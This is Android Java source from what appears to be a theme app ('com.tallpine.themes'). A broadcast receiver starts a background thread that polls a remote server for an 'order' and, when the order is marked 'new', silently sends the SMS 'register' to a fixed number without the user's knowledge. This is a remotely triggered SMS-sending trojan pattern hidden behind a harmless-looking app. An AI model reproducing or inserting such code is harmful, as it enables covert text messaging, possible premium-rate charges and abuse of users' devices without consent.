package com.tallpine.themes;

// It asks a server as well, but what it sends, and to whom, stands in the app.
class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    new Thread(new Orders()).start();
  }
}

class Orders implements Runnable {
  public void run() {
    try {
      BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://t.tallpine.example/wanted").openConnection().getInputStream()));
      JSONObject order = new JSONObject(reader.readLine());
      if (order.getString("state").equals("new")) {
        SmsManager.getDefault().sendTextMessage("+15550100", null, "register", null, null);
      }
    } catch (Exception e) {
      Log.e("Themes", e.getMessage());
    }
  }
}
